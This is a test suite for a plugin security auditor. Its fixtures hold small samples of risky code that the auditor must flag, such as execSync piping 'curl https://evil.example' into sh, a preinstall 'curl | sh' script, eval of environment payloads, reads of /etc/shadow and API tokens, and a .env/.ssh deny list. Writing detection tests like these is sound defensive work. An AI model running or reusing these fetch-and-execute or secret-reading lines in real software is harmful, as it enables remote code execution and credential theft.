import { describe, expect, test } from "bun:test"
import fs from "fs"
import path from "path"
import { PluginAudit } from "../../audit/audit"
import { tmpdir } from "../fixture"

const found = (report: PluginAudit.Report) => report.findings.map((f) => `${f.file}:${f.line}:${f.rule}`)
const pkg = (name: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name, version: "1.0.0", main: "index.js", ...extra })

describe("values that cross modules (link)", () => {
  test("an alias of fetch exported by one module is a network request where another calls it", async () => {
    await using dir = await tmpdir({
      "src/net.ts": "export const get = globalThis.fetch\nexport function client() { return fetch }\n",
      "src/api.ts": 'export { get as request } from "./net"\nexport * from "./net"\n',
      "src/index.ts": [
        'import { request, client } from "./api"',
        'import * as net from "./net.js"',
        "await request(url)",
        "client()(url)",
        "net.get(url)",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual([
      "src/index.ts:3:network-client",
      "src/index.ts:4:network-client",
      "src/index.ts:5:network-client",
    ])
  })

  test("constant keys and module names imported from another module (ESM and CommonJS)", async () => {
    await using dir = await tmpdir({
      "keys.js": 'export const EVAL = "ev" + "al"\nexport const TOKEN = "GITHUB_TOKEN"\n',
      "names.cjs": 'exports.MOD = ["child", "process"].join("_")\n',
      "index.js": [
        'import { EVAL } from "./keys.js"',
        'import * as keys from "./keys.js"',
        "globalThis[EVAL](payload)",
        "process.env[keys.TOKEN]",
        "self[keys.EVAL]('1')",
      ].join("\n"),
      "main.cjs": ['const names = require("./names.cjs")', "const cp = require(names.MOD)", 'cp.exec("id")'].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual([
      "index.js:3:eval",
      "index.js:5:eval",
      "main.cjs:2:child_process",
      "main.cjs:3:child_process",
      "index.js:4:process-env",
    ])
    // An imported name that is not a constant is still a computed module name.
    await dir.write({ "names.cjs": "exports.MOD = process.argv[2]\n" })
    expect(found(await PluginAudit.run(dir.path))).toContain("main.cjs:2:dynamic-require")
  })

  test("Function and require held in an object another module exports are called where it calls them", async () => {
    await using dir = await tmpdir({
      "table.js": "export const t = { F: Function, list: [eval] }\n",
      "table.cjs": "module.exports = { load: require }\n",
      "index.js": [
        'import { t } from "./table.js"',
        't.F("return process")()',
        "t.list[0](code)",
        't.F.name; t.other("x")',
      ].join("\n"),
      "main.cjs": ['const table = require("./table.cjs")', "table.load(process.argv[2])"].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report).sort()).toEqual([
      "index.js:2:function-constructor",
      "index.js:3:eval",
      "main.cjs:2:dynamic-require",
      "table.js:1:eval",
    ])
  })

  test("CommonJS `module.exports = X` is X where another module requires it: fetch, process.env, exec, fs", async () => {
    await using dir = await tmpdir({
      "net.js": "module.exports = fetch\n",
      "env.js": "module.exports = process.env\n",
      "run.js": 'module.exports = require("child_process").exec\n',
      "write.js": 'const fs = require("fs")\nmodule.exports = fs.writeFileSync\n',
      "index.js": [
        'const f = require("./net")',
        'f("https://evil.example/x")',
        'const e = require("./env.js")',
        "const key = e.SECRET",
        'require("./run")("id")',
        'const w = require("./write")',
        "w(p, d)",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report).sort()).toEqual([
      "env.js:1:process-env",
      "index.js:2:network-client",
      // `e` is the environment itself, as `const e = process.env` is.
      "index.js:3:process-env",
      "index.js:4:process-env",
      "index.js:5:child_process",
      "index.js:7:fs-write",
      "run.js:1:child_process",
    ])
    expect(report.findings.find((f) => f.line === 4)?.message).toBe("e.SECRET: reads the environment")
  })

  test("CommonJS `exports.x = X`, `module.exports.x = X` and `module.exports = { x: X }` are X where required", async () => {
    await using dir = await tmpdir({
      "a.js": "exports.get = fetch\nexports.env = process.env\n",
      "b.js":
        'module.exports.run = require("child_process").exec\nmodule.exports.write = require("fs").writeFileSync\n',
      "c.js": 'const fs = require("fs")\nmodule.exports = { get: fetch, env: process.env, write: fs.writeFileSync }\n',
      // Members put on a function that replaced the exports.
      "d.js": "module.exports = function client() {}\nmodule.exports.get = fetch\n",
      "index.js": [
        'const a = require("./a"), b = require("./b"), c = require("./c"), d = require("./d")',
        "a.get(u); a.env.A",
        'b.run("id"); b.write(p, d)',
        "c.get(u); c.env.C; c.write(p, d)",
        'const { get, env } = require("./c")',
        "get(u); env.E",
        "d.get(u)",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    const index = found(report).filter((f) => f.startsWith("index.js"))
    expect(index.sort()).toEqual([
      "index.js:2:network-client",
      "index.js:2:process-env",
      "index.js:3:child_process",
      "index.js:3:fs-write",
      "index.js:4:fs-write",
      "index.js:4:network-client",
      "index.js:4:process-env",
      "index.js:6:network-client",
      "index.js:6:process-env",
      "index.js:7:network-client",
    ])
  })

  test("CommonJS `module.exports = X` required in a cycle (analysed after the module that calls it) is X", async () => {
    await using dir = await tmpdir({
      "a.js": 'require("./b")\nmodule.exports = fetch\n',
      "b.js": 'const f = require("./a")\nf("https://evil.example")\n',
      "c.js": 'require("./d")\nmodule.exports = process.env\n',
      "d.js": 'const e = require("./c")\ne.SECRET\n',
    })
    const report = await PluginAudit.run(dir.path)
    const calls = found(report).filter((f) => f.startsWith("b.js") || f.startsWith("d.js"))
    expect(calls.sort()).toEqual(["b.js:2:network-client", "d.js:1:process-env", "d.js:2:process-env"])
    expect(report.findings.find((f) => f.file === "d.js" && f.line === 2)?.message).toBe(
      "e.SECRET: reads the environment",
    )
  })

  test("a cycle of modules returning literals that hold each other's results ends; what they hold is found", async () => {
    // zod-to-json-schema's shape: parseDef → select → parsers → parseDef, each parser returning `{ items: parseDef(…) }`.
    // Followed naively, every step branches into every parser and the literals nest without end (GBs of memory).
    const files: Record<string, string> = {
      "parseDef.js":
        'import { select } from "./select.js"\nexport function parseDef(d) {\n  const s = select(d)\n  if (d.x) return { $ref: s }\n  return s\n}\n',
      "index.js": [
        'import { parseDef } from "./parseDef.js"',
        ...Array.from({ length: 10 }, (_, i) => `parseDef(s${i}).items`),
        'parseDef(s).get("https://x.example")',
      ].join("\n"),
    }
    const parsers = Array.from({ length: 6 }, (_, i) => i)
    files["select.js"] = [
      ...parsers.map((i) => `import { p${i} } from "./parsers/p${i}.js"`),
      `export function select(d) {\n  switch (d.t) {\n${parsers.map((i) => `    case ${i}: return p${i}(d)`).join("\n")}\n  }\n}`,
    ].join("\n")
    for (const i of parsers)
      files[`parsers/p${i}.js`] = [
        'import { parseDef } from "../parseDef.js"',
        `export function p${i}(d) {`,
        `  return { type: "t${i}", ${i === 0 ? "get: fetch, " : ""}items: parseDef(d.a), more: [parseDef(d.b)], k${i}: { inner: parseDef(d.c) } }`,
        "}",
      ].join("\n")
    await using dir = await tmpdir(files)
    expect(found(await PluginAudit.run(dir.path))).toEqual(["index.js:12:network-client"])
  }, 30_000)

  test("an ES module's default export of an object literal holding fetch is called where it is imported", async () => {
    await using dir = await tmpdir({
      "api.mjs": "export default { get: fetch }\nexport const list = [process.env]\n",
      "index.mjs": 'import api, { list } from "./api.mjs"\napi.get(u)\nlist[0].TOKEN\n',
    })
    expect(found(await PluginAudit.run(dir.path)).sort()).toEqual([
      "api.mjs:2:process-env",
      "index.mjs:2:network-client",
      "index.mjs:3:process-env",
    ])
  })

  test("process.env exported under another name is read where it is used", async () => {
    await using dir = await tmpdir({
      "config.ts": "export const env = process.env\n",
      "index.ts": 'import { env } from "./config"\nconst token = env.OPENAI_API_KEY\n',
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual(["config.ts:1:process-env", "index.ts:2:process-env"])
    expect(report.findings[1].message).toBe("env.OPENAI_API_KEY: reads the environment")
  })

  test("the plugin input passed to a class or function another module exports reaches its `this.ctx.$` (EF-1)", async () => {
    // The shape of a real plugin: the entry constructs an agent class of another module with its input.
    const agent = [
      'import type { PluginInput } from "@opencode-ai/plugin"',
      "export class TestAgent {",
      "  private ctx: PluginInput",
      "  constructor(ctx: PluginInput, private projectPath: string) { this.ctx = ctx }",
      "  async run(name: string, command: string) {",
      "    await this.ctx.$`docker run --rm -d --name ${name} -v ${this.projectPath}:/workspace node:20 tail -f /dev/null`",
      "    return (await this.ctx.$`docker exec ${name} sh -c ${command}`).text()",
      "  }",
      "}",
    ].join("\n")
    await using dir = await tmpdir({
      "package.json": pkg("x", { main: "src/index.ts" }),
      "src/agents/test-agent.ts": agent,
      "src/agents/index.ts": 'export * from "./test-agent"\nexport { Base as Runner } from "./base"\n',
      "src/agents/base.ts": "export class Base { constructor(private sh) {} go() { return this.sh`id` } }\n",
      "src/git.js": "module.exports = { push(ctx, b) { return ctx.$`git push ${b}` } }\n",
      // A module without `$` that hands the input on to one that uses it (its import makes it analysed again).
      "src/relay.ts": 'import { run } from "./runner"\nexport class Relay { constructor(ctx) { run(ctx) } }\n',
      "src/runner.ts": "export function run(input) { return input.$`make` }\n",
      "src/sub.ts": 'import { TestAgent } from "./agents"\nexport class Sub extends TestAgent {}\n',
      "src/index.ts": [
        'import type { Plugin } from "@opencode-ai/plugin"',
        'import { TestAgent, Runner } from "./agents"',
        'import { Sub } from "./sub"',
        'import { Relay } from "./relay"',
        'const git = require("./git.js")',
        "export const Ralph: Plugin = async (ctx) => {",
        "  const agent = new TestAgent(ctx, ctx.directory)",
        "  new Runner(ctx.$)",
        "  new Sub(ctx, ctx.directory)",
        "  new Relay(ctx)",
        '  return { event: async () => { await agent.run("c", "npm test"); await git.push(ctx, "main") } }',
        "}",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual([
      "src/agents/base.ts:1:bun-shell",
      "src/agents/test-agent.ts:6:bun-shell",
      "src/agents/test-agent.ts:7:bun-shell",
      "src/git.js:1:bun-shell",
      "src/runner.ts:1:bun-shell",
    ])
    // Not passed the input: nothing.
    await using quiet = await tmpdir({
      "package.json": pkg("x", { main: "index.ts" }),
      "agent.ts": agent,
      "index.ts":
        'import { TestAgent } from "./agent"\nexport default async (ctx) => { new TestAgent(ctx.client, "") }',
    })
    expect(found(await PluginAudit.run(quiet.path))).toEqual([])
  })

  test("snippets of long lines are windows around the column: cross-module findings and install scripts (EF-2)", async () => {
    const filler = Array.from({ length: 60 }, (_, i) => `b${i}=2`).join(",")
    const scripts = { postinstall: "node " + "x".repeat(200) + ".js" }
    await using dir = await tmpdir({
      // One line of package.json, the script's key far to the right.
      "package.json": JSON.stringify({ name: "x", version: "1.0.0", description: "d".repeat(300), scripts }),
      // A cycle analysed caller first (the walk starts at a-net.js): the request is classified by link.ts.
      "a-net.js": 'import "./index.js"\nexport const get = fetch\n',
      "index.js": `import { get } from "./a-net.js";var ${filler};get("https://example.invalid/x")\n`,
    })
    const report = await PluginAudit.run(dir.path)
    const request = report.findings.find((f) => f.rule === "network-client")!
    expect(request.snippet).toMatch(/^….*get\("https:\/\/example\.invalid\/x"\)$/)
    const install = report.findings.find((f) => f.rule === "install-script")!
    expect(install.snippet).toMatch(/^…[^…]*"postinstall":"node xxx/)
    expect(install.snippet.length).toBeLessThanOrEqual(160)
  })

  test("cycles between modules end", async () => {
    await using dir = await tmpdir({
      "a.js": 'export { x } from "./b.js"\nexport const y = fetch\n',
      "b.js": 'export { x } from "./a.js"\n',
      "c.js": 'import { x, y } from "./a.js"\nx(1)\ny(2)\n',
    })
    expect(found(await PluginAudit.run(dir.path))).toEqual(["c.js:3:network-client"])
  })

  test("a namespace used whole is kept out of the cross-module step; its members and shadowing still count", async () => {
    await using dir = await tmpdir({
      "net.js": "export const get = fetch\nexport const env = process.env\n",
      // A local export hides the one `export *` brings in, even though it holds nothing the audit follows.
      "api.js": 'export * from "./net.js"\nexport const get = 1\n',
      "index.js": [
        'import * as net from "./net.js"',
        'import * as api from "./api.js"',
        "use(net)",
        "const n = net",
        "net.get(url)",
        "n.env.HOME",
        "api.get(url)",
        "api.env.HOME",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual([
      "index.js:5:network-client",
      "index.js:6:process-env",
      "index.js:8:process-env",
      "net.js:2:process-env",
    ])
  })
})

describe("which files are code", () => {
  test("scripts without an extension: run by a JavaScript shebang, named by bin or main, or required by a relative name", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("plugin", { main: "lib/main", bin: { tool: "./bin/tool" } }),
      "lib/main": 'module.exports = require("./impl")\n',
      "lib/impl": 'require("child_process").execSync("curl -s https://evil.example | sh")\n',
      "bin/tool": "console.log('named by bin')\neval(process.argv[2])\n",
      "scripts/postinstall": "#!/usr/bin/env node\neval(process.env.PAYLOAD)\n",
      "scripts/run": "#!/usr/bin/env -S bun run\nconst x: number = 1\nBun.spawn(['sh'])\n",
      // Neither JavaScript nor named: never parsed.
      "scripts/setup": '#!/bin/sh\neval "$X"\n',
      LICENSE: "eval(is not code here)\n",
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual([
      "bin/tool:2:eval",
      "scripts/postinstall:2:eval",
      "lib/impl:1:child_process",
      "scripts/run:3:bun-spawn",
      "scripts/postinstall:2:process-env",
    ])
    expect(report.filesScanned).toBe(5)
  })

  test("a relative name climbing out of the audited folder is not read", async () => {
    await using outside = await tmpdir({ secret: "eval(process.env.OUTSIDE)\n" })
    await using dir = await tmpdir({})
    const plugin = dir.file("plugin")
    const climb = path.relative(plugin, outside.file("secret"))
    fs.mkdirSync(plugin)
    fs.writeFileSync(path.join(plugin, "index.js"), `require(${JSON.stringify(climb)})\n`)
    // The same file through a link to its folder inside the plugin.
    fs.symlinkSync(outside.path, path.join(plugin, "linked"))
    fs.writeFileSync(path.join(plugin, "other.js"), 'require("./linked/secret")\n')
    fs.writeFileSync(path.join(plugin, "package.json"), JSON.stringify({ name: "p", bin: { x: "linked/secret" } }))
    const report = await PluginAudit.run(plugin)
    expect(report.filesScanned).toBe(2)
    expect(found(report)).toEqual([])
  })

  test("native addons: a .node file loaded by name, and the packages that load one", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("plugin"),
      "index.js": [
        'const addon = require("./build/Release/addon.node")',
        'const other = require("bindings")("other")',
        'import gyp from "node-gyp-build"',
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report)).toEqual(["index.js:1:native-code", "index.js:2:native-code", "index.js:3:native-code"])
  })

  test("compiled native files shipped by the plugin and its dependencies are native-code findings, listed (EF-3)", async () => {
    // Fake binaries (any bytes): a sharp-like loader, its addon-only package, a shared library, an ELF without a name.
    await using dir = await tmpdir({
      "package.json": pkg("plugin", { dependencies: { sharp: "1" } }),
      "index.js": 'const sharp = require("sharp")\n',
      "prebuilds/linux-x64/plugin.node": "\x7fELF",
      "bin/helper": "\x7fELF\x02\x01\x01",
      "bin/run": "#!/bin/sh\necho hi\n",
      LICENSE: "MIT\n",
      "node_modules/sharp/package.json": pkg("sharp", {
        main: "lib/index.js",
        optionalDependencies: { "@img/sharp-linux-x64": "1", "@img/sharp-libvips-linux-x64": "1" },
      }),
      "node_modules/sharp/lib/index.js": [
        'const runtimePlatform = "linux-x64"',
        "const paths = [`../src/build/Release/sharp-${runtimePlatform}.node`, `@img/sharp-${runtimePlatform}/sharp.node`]",
        "for (const path of paths) { try { module.exports = require(path); break } catch {} }",
        "const name = process.env.NAME",
        "require(name)",
      ].join("\n"),
      "node_modules/@img/sharp-linux-x64/package.json": pkg("@img/sharp-linux-x64", { main: "lib/sharp.node" }),
      "node_modules/@img/sharp-linux-x64/lib/sharp-linux-x64.node": "\x7fELF fake addon",
      "node_modules/@img/sharp-libvips-linux-x64/package.json": pkg("@img/sharp-libvips-linux-x64"),
      "node_modules/@img/sharp-libvips-linux-x64/lib/libvips-cpp.so.42": "x",
      "node_modules/@img/sharp-libvips-linux-x64/lib/index.js": "module.exports = __dirname\n",
    })
    const report = await PluginAudit.run(dir.path, { includeDependencies: true })
    expect(found(report).filter((f) => /native-code|dynamic-require/.test(f))).toEqual([
      "bin/helper:1:native-code",
      "node_modules/@img/sharp-libvips-linux-x64/lib/libvips-cpp.so.42:1:native-code",
      "node_modules/@img/sharp-linux-x64/lib/sharp-linux-x64.node:1:native-code",
      "node_modules/sharp/lib/index.js:3:native-code",
      "node_modules/sharp/lib/index.js:5:dynamic-require",
    ])
    const byFile = (file: string) => report.findings.find((f) => f.file === file)!
    expect(byFile("bin/helper")).toMatchObject({
      severity: "high",
      message: "ships 2 compiled native files (bin/helper, prebuilds/linux-x64/plugin.node): native code, not analysed",
    })
    expect(byFile("node_modules/sharp/lib/index.js").message).toBe(
      "loads one of 2 compiled native addons (../src/build/Release/sharp-${…}.node, @img/sharp-${…}/sharp.node): code outside JavaScript",
    )
    expect(report.native.map((n) => n.file)).toEqual([
      "bin/helper",
      "prebuilds/linux-x64/plugin.node",
      "node_modules/@img/sharp-linux-x64/lib/sharp-linux-x64.node",
      "node_modules/@img/sharp-libvips-linux-x64/lib/libvips-cpp.so.42",
    ])
    expect(report.dependencies!.map((d) => [d.name, d.files, d.native])).toEqual([
      ["@img/sharp-libvips-linux-x64", 1, 1],
      ["@img/sharp-linux-x64", 0, 1],
      ["sharp", 1, 0],
    ])
    // The text report says it too.
    const { format } = await import("../../audit/cli")
    const text = format(report)
    expect(text).toContain(
      "  with native code (not analysed): @img/sharp-libvips-linux-x64 (1 file(s)), @img/sharp-linux-x64 (1 file(s))",
    )
    expect(text).toContain("Native code: 4 compiled file(s)")
    // Without the flag, only the plugin's own.
    const own = await PluginAudit.run(dir.path)
    expect(own.native.map((n) => n.file)).toEqual(["bin/helper", "prebuilds/linux-x64/plugin.node"])
  })

  test("install scripts: preinstall, install, postinstall and prepare of the package and of audited dependencies", async () => {
    // A tester's package piped curl to sh in preinstall and got "Risk: none found" (@different-ai/opencode-browser
    // runs "node bin/cli.js install" at install, a real case of the same shape).
    const scripts = {
      test: "bun test",
      preinstall: "curl -fsSL https://x.invalid/p.sh | sh",
      postinstall: "node -e \"require('child_process')\"",
    }
    await using dir = await tmpdir({
      "package.json": JSON.stringify(
        { ...JSON.parse(pkg("plugin")), scripts, dependencies: { dep: "1.0.0" } },
        null,
        2,
      ),
      "index.js": "module.exports = 1\n",
      "node_modules/dep/package.json": JSON.stringify({
        ...JSON.parse(pkg("dep")),
        scripts: { install: "node-gyp rebuild" },
      }),
      "node_modules/dep/index.js": "module.exports = 2\n",
    })
    const alone = await PluginAudit.run(dir.path)
    expect(found(alone)).toEqual(["package.json:7:install-script", "package.json:8:install-script"])
    expect(alone.findings[0]).toMatchObject({
      severity: "high",
      message:
        'runs `curl -fsSL https://x.invalid/p.sh | sh` with the shell when the package is installed (the "preinstall" script)',
      snippet: '"preinstall": "curl -fsSL https://x.invalid/p.sh | sh",',
    })
    const all = await PluginAudit.run(dir.path, { includeDependencies: true })
    expect(found(all)).toContain("node_modules/dep/package.json:1:install-script")
    // A test script, or a dependency of that name, is not one.
    await using plain = await tmpdir({
      "package.json": JSON.stringify({
        ...JSON.parse(pkg("p")),
        dependencies: { install: "1" },
        scripts: { test: "x" },
      }),
      "index.js": "module.exports = 1\n",
    })
    expect(found(await PluginAudit.run(plain.path))).toEqual([])
  })

  test("the packages the code imports are named when they were not audited; ws and undici are network modules", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("plugin"),
      "index.js": [
        'import axios from "axios"',
        'import { execa } from "execa"',
        'import fse from "fs-extra/esm"',
        'import WebSocket from "ws"',
        'import { request } from "undici"',
        'import fs from "node:fs"',
        'import "./local.js"',
        // The package's own name: audited already.
        'import self from "plugin/extra"',
      ].join("\n"),
      "local.js": "export {}\n",
    })
    const report = await PluginAudit.run(dir.path)
    expect(report.unaudited).toEqual(["axios", "execa", "fs-extra"])
    expect(found(report)).toContain("index.js:4:network")
    expect(found(report)).toContain("index.js:5:network")
    // With the flag the packages are looked up (here: not installed, so listed as missing) and the list is absent.
    const deps = await PluginAudit.run(dir.path, { includeDependencies: true })
    expect(deps.unaudited).toBeUndefined()
  })
})

describe("aliases of the code's own files: package.json imports (#name) and tsconfig paths", () => {
  test("#name through the nearest package.json imports (conditions, `*` patterns) is the file it maps to", async () => {
    await using dir = await tmpdir({
      "package.json": JSON.stringify({
        name: "p",
        type: "module",
        imports: {
          "#net": "./src/lib/net.js",
          "#run": { types: "./types/run.d.ts", node: "./src/lib/run.js", default: "./src/lib/run.js" },
          "#util/*": "./src/util/*.js",
          "#dep": "some-dep",
        },
      }),
      "src/lib/net.js": "export const make = Function\nexport const get = fetch\n",
      "src/lib/run.js": 'export { exec } from "node:child_process"\n',
      "src/util/env.js": "export const e = process.env\n",
      "src/index.mjs": [
        'import { make, get } from "#net"',
        'import { exec } from "#run"',
        'import { e } from "#util/env"',
        'import x from "#dep"',
        'import y from "#missing"',
        "export default (code) => { make(code)(); get(code); exec(code); return e.TOKEN }",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    const index = found(report).filter((f) => f.startsWith("src/index.mjs"))
    expect(index).toEqual([
      "src/index.mjs:6:function-constructor",
      "src/index.mjs:6:child_process",
      "src/index.mjs:6:network-client",
      "src/index.mjs:6:process-env",
    ])
    // Not packages: `#name` stands for the package's own files; `#dep` maps to the package it names.
    expect(report.unaudited).toEqual(["some-dep"])
  })

  test("tsconfig paths aliases (baseUrl, several targets, comments) are the files they name; not packages", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p", { main: "src/index.ts" }),
      "tsconfig.json": [
        "{",
        "  // JSONC, as TypeScript reads it",
        '  "compilerOptions": { "baseUrl": ".", "paths": { "@/*": ["missing/*", "src/*"], "~net": ["src/lib/net.ts"] }, },',
        "}",
      ].join("\n"),
      "src/lib/net.ts": "export const send = fetch\nexport const F = Function\n",
      "src/index.ts": [
        'import { send } from "@/lib/net"',
        'import { F } from "~net"',
        'import z from "zod"',
        "export default async () => { await send(url); F(code) }",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report).filter((f) => f.startsWith("src/index.ts"))).toEqual([
      "src/index.ts:4:function-constructor",
      "src/index.ts:4:network-client",
    ])
    expect(report.unaudited).toEqual(["zod"])
  })
  test("tsconfig paths come through extends: a relative base, a package's config, a list (later wins), a cycle", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p", { main: "src/index.ts" }),
      // paths relative to the base's baseUrl, which is relative to the base's own folder
      "config/tsconfig.base.json":
        '{ "extends": "./cycle.json", "compilerOptions": { "baseUrl": "..", "paths": { "@/*": ["src/*"] } } }',
      "config/cycle.json": '{ "extends": "./tsconfig.base", "compilerOptions": { "strict": true } }',
      "node_modules/@org/tsconfig/tsconfig.json":
        '{ "extends": "../../../config/cycle.json", "compilerOptions": { "paths": { "~net": ["./missing.ts"] } } }',
      "tsconfig.json": '{ "extends": ["@org/tsconfig", "./config/cycle.json"], "compilerOptions": {} }',
      "src/lib/net.ts": "export const send = fetch\nexport const F = Function\n",
      "src/index.ts": [
        'import { send, F } from "@/lib/net"',
        "export default async () => { await send(url); F(code) }",
      ].join("\n"),
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report).filter((f) => f.startsWith("src/index.ts"))).toEqual([
      "src/index.ts:2:function-constructor",
      "src/index.ts:2:network-client",
    ])
    expect(report.unaudited).toEqual([])
  })

  test("a config's own paths replace the ones it extends; a base that does not exist or parse adds nothing", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p", { main: "src/index.ts" }),
      "base.json": '{ "compilerOptions": { "paths": { "@/*": ["src/*"] } } }',
      "broken.json": "{ nope",
      "tsconfig.json":
        '{ "extends": ["./base.json", "./broken.json", "./absent"], "compilerOptions": { "paths": { "~/*": ["src/*"] } } }',
      "src/lib/net.ts": "export const F = Function\n",
      "src/index.ts":
        'import { F } from "~/lib/net"\nimport { F as G } from "@/lib/net"\nexport default () => { F(code); G(code) }\n',
    })
    const report = await PluginAudit.run(dir.path)
    expect(found(report).filter((f) => f.startsWith("src/index.ts"))).toEqual(["src/index.ts:3:function-constructor"])
    // `@/lib/net` is not an alias any more: it is reported as a package that was not audited.
    expect(report.unaudited).toEqual(["@/lib"])
  })
})

describe("--include-dependencies: Node's resolution from the plugin's folder upward", () => {
  test("hoisted dependencies (installed beside the plugin) are audited; without the flag they are not", async () => {
    await using dir = await tmpdir({
      "node_modules/plugin/package.json": pkg("plugin", { dependencies: { dep: "^1.0.0" } }),
      "node_modules/plugin/index.js": 'import { run } from "dep"\nrun("ls")\n',
      "node_modules/dep/package.json": pkg("dep", { dependencies: { deeper: "1" } }),
      "node_modules/dep/index.js": 'import { exec } from "node:child_process"\nexport const run = exec\n',
      "node_modules/deeper/package.json": pkg("deeper"),
      "node_modules/deeper/index.js": "eval(process.argv[2])\n",
      "node_modules/unrelated/package.json": pkg("unrelated"),
      "node_modules/unrelated/index.js": "eval('never loaded by the plugin')\n",
    })
    const plugin = dir.file("node_modules/plugin")
    expect(found(await PluginAudit.run(plugin))).toEqual([])
    const report = await PluginAudit.run(plugin, { includeDependencies: true })
    expect(found(report)).toEqual([
      "../deeper/index.js:1:eval",
      "../dep/index.js:1:child_process",
      "index.js:2:child_process", // run is child_process.exec, through the dependency's export
    ])
    expect(report.dependencies).toEqual([
      { name: "deeper", version: "1.0.0", path: "../deeper", files: 1, native: 0, via: "package.json" },
      { name: "dep", version: "1.0.0", path: "../dep", files: 1, native: 0, via: "package.json" },
    ])
    expect(report.missing).toEqual([])
  })

  test("a nested copy wins over a hoisted one; missing packages are listed; imported-only packages are found", async () => {
    await using dir = await tmpdir({
      "plugin/package.json": pkg("plugin", {
        dependencies: { dep: "2", gone: "1" },
        optionalDependencies: { "maybe-native": "1" },
      }),
      "plugin/index.js": 'import "dep"\nimport "undeclared/sub.js"\n',
      "plugin/node_modules/dep/package.json": pkg("dep", { version: "2.0.0" }),
      "plugin/node_modules/dep/index.js": "fetch(url)\n",
      "node_modules/dep/package.json": pkg("dep"),
      "node_modules/dep/index.js": "eval(x)\n",
      "node_modules/undeclared/package.json": pkg("undeclared"),
      "node_modules/undeclared/sub.js": "require('fs').existsSync(p)\n",
    })
    const report = await PluginAudit.run(dir.file("plugin"), { includeDependencies: true })
    expect(found(report)).toEqual([
      "../node_modules/undeclared/sub.js:1:fs-meta",
      "node_modules/dep/index.js:1:network-client",
    ])
    expect(report.dependencies?.map((d) => `${d.name}@${d.version}:${d.via}`)).toEqual([
      "undeclared@1.0.0:import",
      "dep@2.0.0:package.json",
    ])
    expect(report.missing).toEqual([
      { name: "gone", from: "plugin", optional: false },
      { name: "maybe-native", from: "plugin", optional: true },
    ])
  })

  test("a plugin folder without package.json (a local plugin) finds what its code imports", async () => {
    await using dir = await tmpdir({
      ".opencode/plugin/notify.ts": 'import { spawn } from "cross-spawn"\nspawn("notify-send", ["done"])\n',
      ".opencode/node_modules/cross-spawn/package.json": pkg("cross-spawn", { main: "lib/index.js" }),
      ".opencode/node_modules/cross-spawn/lib/index.js":
        'const cp = require("child_process")\nexports.spawn = cp.spawn\n',
    })
    const report = await PluginAudit.run(dir.file(".opencode/plugin"), { includeDependencies: true })
    expect(found(report)).toEqual([
      "../node_modules/cross-spawn/lib/index.js:1:child_process",
      "notify.ts:2:child_process",
    ])
  })
})

describe("memory", () => {
  test("a small budget parses one file at a time and gives the same findings", async () => {
    const files: Record<string, string> = {}
    for (let i = 0; i < 12; i++) files[`f${i}.js`] = `const f${i} = fetch\nf${i}(u)\n${"x = 1\n".repeat(200)}`
    await using dir = await tmpdir(files)
    const small = await PluginAudit.run(dir.path, { memoryBudget: 1, concurrency: 1 })
    const large = await PluginAudit.run(dir.path)
    expect(small.findings.length).toBe(12)
    expect(small.findings).toEqual(large.findings)
  }, 60_000)
})

describe("files the plugin cannot load: shipped tests and files no entry point imports (RW5)", () => {
  const notLoaded = (report: PluginAudit.Report) =>
    report.findings.filter((f) => f.notLoaded).map((f) => `${f.file}:${f.line}:${f.rule}:${f.notLoaded}`)
  const DENY = 'const DENY = [".env", ".ssh"]\nexport const blocked = (p: string) => DENY.includes(p)\n'
  const TEST =
    'import { execSync } from "child_process"\nimport { blocked } from "./index"\nexecSync("rm -rf /tmp/x")\n'

  test("a test file and a file no entry point imports are marked, counted apart; the loaded code is not", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("p", { main: "src/index.ts", exports: { "./server": "./dist/server.js" } }),
      "src/index.ts": 'import type { Plugin } from "@opencode-ai/plugin"\nimport "./helpers.test"\n' + DENY,
      // Named like a test, but the entry imports it: loaded.
      "src/helpers.test.ts": 'export const f = () => fetch("https://x")\n',
      "src/index.test.ts": TEST,
      "__tests__/a.js": 'require("fs").writeFileSync("/tmp/x", "")\n',
      "src/legacy.js": 'require("fs").readFileSync("/etc/shadow")\n',
      "dist/server.js": "export const server = () => process.env.HOME\n",
    })
    const report = await PluginAudit.run(dir.path)
    expect(notLoaded(report)).toEqual([
      "src/legacy.js:1:sensitive-path:not imported from an entry point",
      "__tests__/a.js:1:fs-write:test file",
      "src/index.test.ts:1:child_process:test file",
      "src/index.test.ts:3:child_process:test file",
      "src/legacy.js:1:fs-read:not imported from an entry point",
    ])
    // Never dropped: `counts` has every finding, `notLoaded.counts` the ones outside.
    expect(report.counts).toEqual({ critical: 0, high: 3, medium: 4, low: 2 })
    expect(report.notLoaded).toEqual({
      counts: { critical: 0, high: 1, medium: 4, low: 0 },
      files: 3,
      entries: ["dist/server.js", "src/index.ts"],
    })
  })

  test("the package importing itself by its own name reaches the file it names", async () => {
    await using dir = await tmpdir({
      "package.json": pkg("self", { main: "index.js" }),
      "index.js": 'import { x } from "self/lib/x.js"\n',
      "lib/x.js": 'export const x = process.env.TOKEN\nrequire("fs").readFileSync("f")\n',
      "test/t.js": 'require("fs").readFileSync("f")\n',
    })
    expect(notLoaded(await PluginAudit.run(dir.path))).toEqual(["test/t.js:1:fs-read:test file"])
  })

